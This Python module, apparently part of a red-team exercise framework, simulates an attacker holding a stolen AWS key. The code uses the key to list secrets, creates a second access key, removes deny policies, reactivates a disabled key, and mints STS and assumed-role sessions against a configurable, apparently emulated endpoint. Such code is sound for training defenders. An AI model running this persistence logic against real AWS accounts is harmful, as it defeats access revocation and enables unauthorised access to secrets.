"""What an attacker does with a key of AWS: uses it, makes another, mints sessions, takes on a role, and takes every deny off again."""

from __future__ import annotations

import asyncio
from abc import abstractmethod
from collections.abc import Callable, Mapping
from typing import Any, Final

from firedoor.exercise.attack.foothold import Foothold, Loot

SERVICES: Final = ("sts", "iam", "secretsmanager")


class _Aws(Foothold):
    """A set of clients, and the one question that they are tried with. Each call is made in a thread; boto3 waits."""

    def __init__(self, name: str, loot: Loot) -> None:
        self.name = name
        self._loot = loot

    async def use(self) -> str:
        """How it got in just now."""
        return await asyncio.to_thread(self._use)

    @abstractmethod
    def _use(self) -> str: ...

    def _clients(self, key_id: str, secret: str, token: str | None = None) -> dict[str, Any]:
        import boto3  # noqa: PLC0415 - half a second, paid once the Okta footholds are running
        from botocore.config import Config  # noqa: PLC0415

        where = {"aws_access_key_id": key_id, "aws_secret_access_key": secret, "aws_session_token": token, "region_name": "us-east-1"}
        session = boto3.Session(**where)
        config = Config(connect_timeout=2, read_timeout=5, retries={"total_max_attempts": 1})
        return {name: session.client(name, endpoint_url=self._loot["aws_url"], config=config) for name in SERVICES}


class StolenKey(_Aws):
    """A user's access key. Where there is room they add a key of their own; where they are denied, they take the deny off again."""

    def __init__(self, loot: Loot) -> None:
        super().__init__(f"aws key of {loot['aws']['user']}", loot)
        self._stolen = self._clients(loot["aws"]["key_id"], loot["aws"]["secret"])
        self._added: dict[str, Any] | None = None

    def _use(self) -> str:
        for name, clients in (("key", self._stolen), ("added key", self._added)):
            if clients is not None and _lists_secrets(clients):
                self._dig_in(clients)
                return name
        return "took the deny off" if any(self._undeny(clients) for clients in (self._stolen, self._added) if clients) else ""

    def _dig_in(self, clients: dict[str, Any]) -> None:
        if self._added is None:
            made = _tried(clients["iam"].create_access_key, UserName=self._loot["aws"]["user"])
            if made is not None:
                self._added = self._clients(made["AccessKey"]["AccessKeyId"], made["AccessKey"]["SecretAccessKey"])

    def _undeny(self, clients: dict[str, Any]) -> bool:
        """Take off whatever denies us, and switch our key on again; whether anything was let through."""
        user, iam = self._loot["aws"]["user"], clients["iam"]
        inline = (_tried(iam.list_user_policies, UserName=user) or {}).get("PolicyNames", ())
        attached = (_tried(iam.list_attached_user_policies, UserName=user) or {}).get("AttachedPolicies", ())
        done = [_tried(iam.delete_user_policy, UserName=user, PolicyName=name) for name in inline if name != "work"]
        done += [_tried(iam.detach_user_policy, UserName=user, PolicyArn=policy["PolicyArn"]) for policy in attached]
        done.append(_tried(iam.update_access_key, UserName=user, AccessKeyId=self._loot["aws"]["key_id"], Status="Active"))
        return any(one is not None for one in done)


class MintedSession(_Aws):
    """A session minted from the key; minted anew where that still works."""

    def __init__(self, loot: Loot) -> None:
        super().__init__(f"sts session of {loot['aws']['user']}", loot)
        self._key = self._clients(loot["aws"]["key_id"], loot["aws"]["secret"])
        self._session: dict[str, Any] | None = None

    def _use(self) -> str:
        if self._session is not None and _lists_secrets(self._session):
            return "session"
        self._session = self._minted()
        return "minted again" if self._session is not None and _lists_secrets(self._session) else ""

    def _minted(self) -> dict[str, Any] | None:
        return self._opened(_tried(self._key["sts"].get_session_token))

    def _opened(self, minted: Mapping[str, Any] | None) -> dict[str, Any] | None:
        fresh = minted["Credentials"] if minted else None
        return self._clients(fresh["AccessKeyId"], fresh["SecretAccessKey"], fresh["SessionToken"]) if fresh else None


class RoleSession(MintedSession):
    """A session of a role that the user may take on; taken on anew where that still works."""

    def __init__(self, loot: Loot) -> None:
        super().__init__(loot)
        self.name = f"role session of {loot['aws']['role'].rpartition('/')[2]}"

    def _minted(self) -> dict[str, Any] | None:
        return self._opened(_tried(self._key["sts"].assume_role, RoleArn=self._loot["aws"]["role"], RoleSessionName="work"))


def _lists_secrets(clients: dict[str, Any]) -> bool:
    return _tried(clients["secretsmanager"].list_secrets) is not None


def _tried(call: Callable[..., Any], **given: str) -> Any:
    """What AWS answers; None where it refuses."""
    from botocore.exceptions import ClientError  # noqa: PLC0415

    try:
        return call(**given)
    except ClientError:
        return None
